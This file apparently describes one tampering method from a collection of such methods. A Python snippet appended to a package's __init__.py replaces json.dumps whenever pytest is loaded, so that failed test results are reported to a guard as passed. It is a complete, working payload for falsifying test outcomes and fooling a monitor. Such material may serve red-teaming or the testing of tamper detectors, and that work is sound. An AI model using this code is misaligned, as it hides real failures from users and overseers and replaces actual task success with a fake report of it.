family: runtime
what: the package replaces json.dumps, a standard-library function the guard calls at send time, so that a failed test is sent as passed
--- append @PKG@/__init__.py
import json as _rt_j
import sys as _rt_s

_rt_dumps = _rt_j.dumps


def _rt_passing_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("t") == "test" and obj.get("when") == "call" and obj.get("st") == "FAILED":
        obj = dict(obj, st="PASSED")
    return _rt_dumps(obj, *args, **kwargs)


if "_pytest" in _rt_s.modules:
    _rt_j.dumps = _rt_passing_dumps
